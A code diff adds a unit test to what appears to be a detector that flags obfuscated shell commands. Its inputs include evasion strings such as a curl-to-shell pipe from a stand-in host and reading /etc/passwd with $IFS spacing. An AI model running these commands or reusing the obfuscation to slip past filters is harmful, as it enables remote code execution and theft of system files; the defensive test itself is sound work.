@@ -95,6 +95,15 @@ describe('empty variables inside a command name', () => {
     expect(r.reasons.map((x) => x.code)).toContain('obfuscation');
   });
 
+  it('names the expansion as written, not $IFS, in the message', () => {
+    const message = (text: string) => evaluate(text, 'bash').reasons.find((x) => x.ruleId === 'enc.ifs')?.message ?? '';
+    expect(message('b${u}ash -c id')).toContain('`${u}`');
+    expect(message('b${u}ash -c id')).not.toContain('IFS');
+    expect(message('wg${E:-}et -qO- http://x.example/a')).toContain('`${E:-}`');
+    expect(message('curl -s http://x.example/a | b$@ash')).toContain('`$@`');
+    expect(message('cat${IFS}/etc/passwd')).toContain('($IFS) is used in place of spaces');
+  });
+
   it.each([
     '$HOME/bin/tool --x',
     '${JAVA_HOME}/bin/java -jar app.jar',
